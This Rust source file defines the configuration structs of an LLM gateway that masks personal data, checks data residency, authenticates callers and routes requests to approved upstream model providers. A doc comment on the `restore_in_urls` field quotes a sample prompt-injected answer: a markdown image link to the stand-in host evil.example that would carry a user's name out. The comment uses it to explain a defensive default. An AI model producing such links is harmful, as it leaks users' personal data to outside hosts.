//! The configuration file as written (`sekimori.toml`): raw serde structs.
//!
//! Stage one of two: these types only check shape (`deny_unknown_fields`, types,
//! defaults). [`crate::config::Config::validate`] checks meaning (names that refer to
//! each other, CIDRs, URLs) and the gateway compiles the result into its runtime
//! snapshot. Every field documents its purpose and default; the defaults are the named
//! `DEFAULT_*` constants below.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use crate::inspect::DetectionConfig;

/// Default listen address: loopback only.
pub const DEFAULT_LISTEN: &str = "127.0.0.1:8787";
/// Default request body cap after decompression (4 MiB).
pub const DEFAULT_MAX_BODY_BYTES: usize = 4 * 1024 * 1024;
/// Default time allowed to receive the request head (slowloris guard), seconds.
pub const DEFAULT_HEADER_READ_TIMEOUT_SECS: u64 = 10;
/// Default time allowed to receive the whole request body, seconds.
pub const DEFAULT_BODY_READ_TIMEOUT_SECS: u64 = 30;
/// Default idle time after which a keep-alive connection is closed, seconds.
pub const DEFAULT_IDLE_TIMEOUT_SECS: u64 = 60;
/// Default upstream timeout (whole response for non-streaming requests), seconds.
pub const DEFAULT_UPSTREAM_TIMEOUT_SECS: u64 = 300;
/// Default upstream connect timeout, seconds.
pub const DEFAULT_CONNECT_TIMEOUT_SECS: u64 = 10;
/// Default maximum decompression ratio (decoded bytes per encoded byte).
pub const DEFAULT_MAX_DECOMPRESSION_RATIO: u64 = 100;
/// Default lifetime of a warn acknowledgement token, seconds.
pub const DEFAULT_WARN_TOKEN_TTL_SECS: u64 = 600;
/// Default interval at which config and dictionary files are checked for changes, seconds.
pub const DEFAULT_RELOAD_POLL_SECS: u64 = 3;
/// Default maximum number of simultaneous client connections.
pub const DEFAULT_MAX_CONNECTIONS: usize = 1024;
/// Most `server.workers` accepted.
pub const MAX_WORKERS: usize = 256;
/// Default number of requests that may wait for an inspection slot.
pub const DEFAULT_MAX_INSPECTIONS_QUEUED: usize = 128;
/// Default time a request may wait for an inspection slot, milliseconds.
pub const DEFAULT_INSPECTION_QUEUE_WAIT_MS: u64 = 2000;

/// The whole file.
#[derive(Clone, Debug, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct Config {
    /// `[server]`: listener, limits, client allow list.
    #[serde(default)]
    pub server: ServerConfig,
    /// `[detection]`: what the engine looks for.
    #[serde(default)]
    pub detection: DetectionConfig,
    /// `[policy]`: what happens to each category.
    #[serde(default)]
    pub policy: PolicyConfig,
    /// `[[departments]]`: per-department overrides and model allow lists.
    #[serde(default)]
    pub departments: Vec<DepartmentConfig>,
    /// `[auth]`: how callers are identified.
    #[serde(default)]
    pub auth: AuthConfig,
    /// `[[upstreams]]`: approved LLM endpoints.
    #[serde(default)]
    pub upstreams: Vec<UpstreamConfig>,
    /// `[[routes]]`: which upstream serves which API family (first match wins).
    #[serde(default)]
    pub routes: Vec<RouteConfig>,
    /// `[[models]]`: the model catalogue of the OpenAI door (names users see → upstream,
    /// provider model id, translated or not). Consulted before `[[routes]]`.
    #[serde(default)]
    pub models: Vec<ModelConfig>,
    /// `[audit]`: the tamper-evident audit log ([`crate::audit::AuditConfig`]). Absent:
    /// a log under the state directory (see `gateway::audit::default_audit_config`).
    /// Relative paths are relative to the configuration file.
    #[serde(default, skip_serializing)]
    pub audit: Option<crate::audit::AuditConfig>,
    /// `[admin]`: the administrators' console ([`super::AdminConfig`]). Absent: no
    /// console (the embedded default has one on `127.0.0.1:8788`).
    #[serde(default)]
    pub admin: Option<super::AdminConfig>,
    /// `[forward_proxy]`: the browsers' door ([`super::forward`]). Absent: no forward
    /// proxy.
    #[serde(default)]
    pub forward_proxy: Option<super::forward::ForwardProxyConfig>,
    /// Values substituted for `${NAME}` references by [`super::load_str`] (credentials
    /// among them), kept so that [`Config::validate`] leaves them out of its messages.
    /// Not part of the file.
    #[serde(skip)]
    pub env_values: super::EnvValues,
}

/// `[server]`.
#[derive(Clone, Debug, Deserialize, Serialize)]
#[serde(deny_unknown_fields, default)]
pub struct ServerConfig {
    /// Listen address. Default [`DEFAULT_LISTEN`].
    pub listen: String,
    /// Client addresses allowed to connect (CIDR). Default: loopback only.
    pub allowed_clients: Vec<String>,
    /// Request body cap in bytes, after decompression (413 above). Default 4 MiB.
    pub max_body_bytes: usize,
    /// Maximum decoded/encoded ratio of a compressed body. Default 100.
    pub max_decompression_ratio: u64,
    /// Seconds to receive the request head. Default 10.
    pub header_read_timeout_secs: u64,
    /// Seconds to receive the request body (408 above). Default 30.
    pub body_read_timeout_secs: u64,
    /// Seconds a keep-alive connection may stay idle. Default 60.
    pub idle_timeout_secs: u64,
    /// Maximum simultaneous connections. Default 1024.
    pub max_connections: usize,
    /// Worker threads serving connections, each with its own single-threaded runtime
    /// and its own listening socket (`SO_REUSEPORT`); 0 means one per CPU core.
    /// Default 0.
    pub workers: usize,
    /// Seconds between checks of the config and dictionary files for changes
    /// (0 disables polling; SIGHUP still reloads). Default 3.
    pub reload_poll_secs: u64,
    /// Inspections (scans) running at once, on the workers and the blocking pool
    /// together; 0 means two per CPU core. Bounds the memory that scans hold.
    /// Default 0. Takes effect at restart.
    pub max_inspections_in_flight: usize,
    /// Requests that may wait for an inspection slot; further ones get 503 with
    /// `Retry-After`. Default 128. Takes effect at restart.
    pub max_inspections_queued: usize,
    /// Milliseconds a request may wait for an inspection slot before 503 with
    /// `Retry-After`. Default 2000. Takes effect at restart.
    pub inspection_queue_wait_ms: u64,
}

impl Default for ServerConfig {
    fn default() -> Self {
        ServerConfig {
            listen: DEFAULT_LISTEN.to_string(),
            allowed_clients: vec!["127.0.0.0/8".into(), "::1/128".into()],
            max_body_bytes: DEFAULT_MAX_BODY_BYTES,
            max_decompression_ratio: DEFAULT_MAX_DECOMPRESSION_RATIO,
            header_read_timeout_secs: DEFAULT_HEADER_READ_TIMEOUT_SECS,
            body_read_timeout_secs: DEFAULT_BODY_READ_TIMEOUT_SECS,
            idle_timeout_secs: DEFAULT_IDLE_TIMEOUT_SECS,
            max_connections: DEFAULT_MAX_CONNECTIONS,
            workers: 0,
            reload_poll_secs: DEFAULT_RELOAD_POLL_SECS,
            max_inspections_in_flight: 0,
            max_inspections_queued: DEFAULT_MAX_INSPECTIONS_QUEUED,
            inspection_queue_wait_ms: DEFAULT_INSPECTION_QUEUE_WAIT_MS,
        }
    }
}

/// `[policy]`: the organisation-wide policy.
#[derive(Clone, Debug, Deserialize, Serialize)]
#[serde(deny_unknown_fields, default)]
pub struct PolicyConfig {
    /// Action for categories not listed in `actions`: `block`, `mask`, `warn` or `log`.
    /// Default `mask`.
    pub default_action: String,
    /// Action per category (`name`, `address`, `phone`, `my_number`, `email`, or a word
    /// list's name). `my_number` is `block` unless set otherwise.
    pub actions: BTreeMap<String, String>,
    /// Content that cannot be inspected and is nevertheless allowed: `image`, `audio`,
    /// `video`, `file`, `url`, `web_search`, `mcp`, `server_tool`, `data_sources`,
    /// `token_ids`, `binary`, `nested_json`.
    /// Default: none (refused).
    pub allow_content: Vec<String>,
    /// Lifetime of a warn acknowledgement token in seconds. Default 600.
    pub warn_token_ttl_secs: u64,
}

impl Default for PolicyConfig {
    fn default() -> Self {
        PolicyConfig {
            default_action: "mask".into(),
            actions: BTreeMap::new(),
            allow_content: Vec::new(),
            warn_token_ttl_secs: DEFAULT_WARN_TOKEN_TTL_SECS,
        }
    }
}

/// `[[departments]]`.
#[derive(Clone, Debug, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields, default)]
pub struct DepartmentConfig {
    /// Department name as it appears in `[[auth.keys]]` or the trusted header.
    pub name: String,
    /// Actions overriding `[policy.actions]` for this department.
    pub actions: BTreeMap<String, String>,
    /// Models this department may use (exact names; `*` at the end matches a prefix).
    /// Empty: every model the route allows.
    pub models: Vec<String>,
    /// Uninspectable content allowed for this department, in addition to
    /// `[policy].allow_content`.
    pub allow_content: Vec<String>,
    /// Restore placeholders inside URLs of the answer too (link and image targets,
    /// autolinks, bare URLs, URL attributes of HTML tags). Default false: a
    /// prompt-injected answer such as `![x](https://evil.example/?n=〔氏名-K7Q2MX〕)` keeps the
    /// placeholder, so the client's renderer cannot send the real name away; only
    /// placeholders in the prose are restored.
    pub restore_in_urls: bool,
}

/// `[auth]`.
#[derive(Clone, Debug, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields, default)]
pub struct AuthConfig {
    /// Allow callers without credentials as user `anonymous`, department `default`.
    /// Default false; the embedded demo configuration sets it.
    pub allow_anonymous: bool,
    /// Sekimori-issued API keys, stored as SHA-256 hashes.
    pub keys: Vec<ApiKeyConfig>,
    /// Trusted-header mode for a fronting application.
    pub trusted_header: Option<TrustedHeaderConfig>,
}

/// `[[auth.keys]]`.
#[derive(Clone, Debug, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct ApiKeyConfig {
    /// Lowercase hex SHA-256 of the key (`sekimori keys new` prints it; `sekimori keys hash` hashes an existing key).
    pub sha256: String,
    /// The user the key belongs to.
    pub user: String,
    /// The user's department.
    #[serde(default = "default_department")]
    pub department: String,
}

fn default_department() -> String {
    "default".into()
}

/// `[auth.trusted_header]`.
#[derive(Clone, Debug, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct TrustedHeaderConfig {
    /// Header carrying the user id. Default `x-sekimori-user`.
    #[serde(default = "default_user_header")]
    pub user_header: String,
    /// Header carrying the department. Default `x-sekimori-department`.
    #[serde(default = "default_department_header")]
    pub department_header: String,
    /// Header carrying the shared secret. Default `x-sekimori-secret`.
    #[serde(default = "default_secret_header")]
    pub secret_header: String,
    /// The shared secret (use `${ENV_VAR}`), at least 16 characters.
    pub secret: String,
    /// Addresses of the fronting application (CIDR); others may not use these headers.
    pub clients: Vec<String>,
}

fn default_user_header() -> String {
    "x-sekimori-user".into()
}
fn default_department_header() -> String {
    "x-sekimori-department".into()
}
fn default_secret_header() -> String {
    "x-sekimori-secret".into()
}

/// `[[upstreams]]`: an approved endpoint. The residency fields are those of
/// [`crate::region::UpstreamDecl`]; the region guard checks them at load and on every
/// request.
#[derive(Clone, Debug, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct UpstreamConfig {
    /// Name used by routes.
    pub name: String,
    /// `azure_openai`, `bedrock`, `vertex`, `domestic`, `on_premises`, or `demo` (the
    /// built-in echo server). `openai`, `anthropic` and `gemini_developer` are refused
    /// (no Japan-only processing).
    pub provider: String,
    /// Base URL the request path is appended to (`https://x.openai.azure.com`).
    /// Not used by `demo`.
    #[serde(default)]
    pub base_url: String,
    /// `"jp-contract"` for `domestic`, `"on-premises"` for `on_premises`; absent otherwise.
    #[serde(default)]
    pub residency: Option<String>,
    /// Azure: the verified deployments (name, ARM region, deployment type).
    #[serde(default)]
    pub azure_deployments: Vec<crate::region::AzureDeployment>,
    /// Bedrock: application-inference-profile ARNs verified to stay in Japan.
    #[serde(default)]
    pub bedrock_verified_profiles: Vec<String>,
    /// Bedrock: guardrail identifiers verified to evaluate in Japan.
    #[serde(default)]
    pub bedrock_verified_guardrails: Vec<String>,
    /// Credential sent upstream (use `${ENV_VAR}`); the client's own is never forwarded.
    #[serde(default)]
    pub api_key: Option<String>,
    /// Header carrying `api_key`; default per provider (`api-key` for Azure,
    /// `authorization` as Bearer otherwise).
    #[serde(default)]
    pub auth_header: Option<String>,
    /// Upstream timeout in seconds. Default 300.
    #[serde(default)]
    pub timeout_secs: Option<u64>,
    /// Bedrock: the AWS access key id requests are SigV4-signed with (use
    /// `${AWS_ACCESS_KEY_ID}`). Without it (and without `api_key`, a Bedrock API key
    /// sent as Bearer) requests go unsigned and Bedrock refuses them.
    #[serde(default)]
    pub aws_access_key_id: Option<String>,
    /// Bedrock: the secret access key belonging to `aws_access_key_id` (use
    /// `${AWS_SECRET_ACCESS_KEY}`).
    #[serde(default)]
    pub aws_secret_access_key: Option<String>,
    /// Bedrock: the session token of temporary credentials (use `${AWS_SESSION_TOKEN}`),
    /// sent as `x-amz-security-token` and signed.
    #[serde(default)]
    pub aws_session_token: Option<String>,
    /// Vertex: path of the service-account key file (JSON) whose key signs the OAuth2
    /// JWT bearer grant; the access token is sent as Bearer, cached and refreshed
    /// before it expires. Relative to the configuration file.
    #[serde(default)]
    pub service_account_file: Option<String>,
    /// Vertex: the OAuth2 token endpoint, overriding the key file's `token_uri`
    /// (https; http only on loopback). Default: the key file's, else
    /// `https://oauth2.googleapis.com/token`.
    #[serde(default)]
    pub token_url: Option<String>,
    /// Connect to this `IP:port` (loopback or private address, e.g. an interface
    /// endpoint of the provider inside the municipality's network) instead of the
    /// address DNS gives for `base_url`'s host. TLS still verifies the certificate of
    /// `base_url`'s host, and that host is what the region guard checks and what is
    /// signed. Default: DNS.
    #[serde(default)]
    pub connect_to: Option<String>,
    /// PEM file of additional root certificates trusted for this upstream (a TLS
    /// inspecting proxy's CA). Relative to the configuration file. Default: the
    /// platform's roots only.
    #[serde(default)]
    pub ca_file: Option<String>,
    /// Source URL and review date of the residency evidence (documentation only).
    #[serde(default)]
    pub evidence: Option<String>,
}

impl UpstreamConfig {
    /// The declaration the region guard checks; `None` for the built-in demo.
    pub fn region_decl(&self) -> Option<crate::region::UpstreamDecl> {
        use crate::region::Provider;
        let provider = match self.provider.as_str() {
            "azure_openai" => Provider::AzureOpenAi,
            "bedrock" => Provider::Bedrock,
            "vertex" => Provider::Vertex,
            "openai" => Provider::OpenAi,
            "anthropic" => Provider::Anthropic,
            "gemini_developer" => Provider::GeminiDeveloper,
            "domestic" => Provider::Domestic,
            "on_premises" => Provider::OnPremises,
            _ => return None,
        };
        Some(crate::region::UpstreamDecl {
            provider,
            base_url: self.base_url.clone(),
            residency: self.residency.clone(),
            azure_deployments: self.azure_deployments.clone(),
            bedrock_verified_profiles: self.bedrock_verified_profiles.clone(),
            bedrock_verified_guardrails: self.bedrock_verified_guardrails.clone(),
        })
    }
}

/// `[[models]]`: one model of the catalogue. A request to the OpenAI door
/// (`/v1/chat/completions`, …) whose `model` is `name` goes to `upstream` with
/// `provider_model` as its model; with `translate = true` a chat completion is
/// translated to the upstream's own API (Bedrock Converse) and its answer back.
/// Department allow lists (`[[departments]] models`) name catalogue names.
#[derive(Clone, Debug, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct ModelConfig {
    /// The name users see and send (`claude-3-haiku`).
    pub name: String,
    /// The upstream serving it.
    pub upstream: String,
    /// The provider's model id (`jp.anthropic.claude-3-haiku-20240307-v1:0`, an Azure
    /// deployment). Default: `name`.
    #[serde(default)]
    pub provider_model: Option<String>,
    /// Translate OpenAI chat completions to the upstream's API (required for
    /// `bedrock` upstreams). Default false: the OpenAI body is forwarded with the model
    /// renamed.
    #[serde(default)]
    pub translate: bool,
}

/// `[[routes]]`: API family → upstream.
#[derive(Clone, Debug, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct RouteConfig {
    /// API family: `openai` (`/v1/chat/completions`, `/v1/responses`, `/v1/embeddings`),
    /// `azure` (`/openai/...`), `anthropic` (`/v1/messages`, `/v1/messages/count_tokens`), `gemini`
    /// (`/v1beta/models/...`, `/v1/projects/.../models/...`).
    pub api: String,
    /// Upstream name.
    pub upstream: String,
    /// Models this route serves (exact, or prefix ending in `*`). Empty: all.
    #[serde(default)]
    pub models: Vec<String>,
}
